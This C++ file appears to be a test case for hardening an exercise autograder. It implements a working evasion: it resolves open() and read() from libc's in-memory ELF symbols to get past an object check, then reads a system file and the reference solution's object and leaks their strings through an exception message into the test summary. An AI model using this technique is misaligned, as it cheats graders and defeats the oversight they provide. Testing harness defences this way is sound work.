// forgery: finds open() and read() in the C library by reading the library's own ELF symbol table from memory, starting at the address of malloc (no import, no system-call instruction: the object check passes it), then in the child process that calls it (whose filter allows opening files for reading) reads files the test run's sandbox shows, a system file and the reference solution's object in the grading build (the reference kernel modules lie beside it), and throws their text as std::invalid_argument's message, which every host test's failure quotes into summary.txt
// exercise: reduction/effectiveBandwidth
// base: starter
// expect: same-as base
// must-not-show: /etc/ld.so.conf
#include <cstring>
#include <stdexcept>
#include <string>

#include "reduction/reduction.cuh"

namespace {

struct Ehdr { unsigned char ident[16]; unsigned short type, machine; unsigned version;
              unsigned long entry, phoff, shoff; unsigned flags; unsigned short ehsize,
              phentsize, phnum, shentsize, shnum, shstrndx; };
struct Phdr { unsigned type, flags; unsigned long offset, vaddr, paddr, filesz, memsz, align; };
struct Dyn { long tag; unsigned long val; };
struct Sym { unsigned name; unsigned char info, other; unsigned short shndx;
             unsigned long value, size; };

void* find(const char* wanted) {
  // A libc function whose address the code may take: malloc.
  void* (*volatile m)(std::size_t) = &malloc;
  unsigned long p = reinterpret_cast<unsigned long>(m) & ~0xfffUL;
  while (std::memcmp(reinterpret_cast<const void*>(p), "\177ELF", 4) != 0) p -= 0x1000;
  const Ehdr* e = reinterpret_cast<const Ehdr*>(p);
  const Phdr* ph = reinterpret_cast<const Phdr*>(p + e->phoff);
  unsigned long dyn = 0;
  for (int i = 0; i < e->phnum; ++i) if (ph[i].type == 2) dyn = p + ph[i].vaddr;
  unsigned long symtab = 0, strtab = 0;
  for (const Dyn* d = reinterpret_cast<const Dyn*>(dyn); d->tag != 0; ++d) {
    if (d->tag == 6) symtab = d->val;
    if (d->tag == 5) strtab = d->val;
  }
  if (symtab < p) symtab += p;
  if (strtab < p) strtab += p;
  for (const Sym* s = reinterpret_cast<const Sym*>(symtab);
       reinterpret_cast<unsigned long>(s) < strtab; ++s) {
    if (s->value && std::strcmp(reinterpret_cast<const char*>(strtab + s->name), wanted) == 0)
      return reinterpret_cast<void*>(p + s->value);
  }
  return nullptr;
}

}  // namespace

namespace wb::reduction {

double effectiveBandwidthGBs(std::size_t, std::size_t, double) {
  using Open = int (*)(const char*, int, ...);
  using Read = long (*)(int, void*, unsigned long);
  Open o = reinterpret_cast<Open>(find("open"));
  Read r = reinterpret_cast<Read>(find("read"));
  if (!o || !r) return 0.0;
  // A file of the system the test run's sandbox shows, then the reference
  // solution's object in the grading build (the test runs in
  // build/tests/reduction); the same way reads the reference kernel modules.
  static const char* places[] = {
      "/etc/ld.so.conf",
      "../../CMakeFiles/wb_solutions_reduction_effectiveBandwidth.dir/solutions/reduction/"
      "effectiveBandwidth.cu.o"};
  std::string shown = "read: ";
  static char data[65536];
  for (const char* place : places) {
    const int fd = o(place, 0);
    if (fd < 0) continue;
    const long n = r(fd, data, sizeof data);
    for (long i = 0; i < n && shown.size() < 1000; ++i) {
      // the printable runs of at least 8 characters, as `strings` shows them
      long j = i;
      while (j < n && data[j] >= 32 && data[j] < 127) ++j;
      if (j - i >= 8) { shown.append(data + i, j - i); shown += " | "; }
      i = j;
    }
  }
  if (shown.size() > 6) throw std::invalid_argument(shown);
  return 0.0;  // nothing read: as the starter
}

}  // namespace wb::reduction
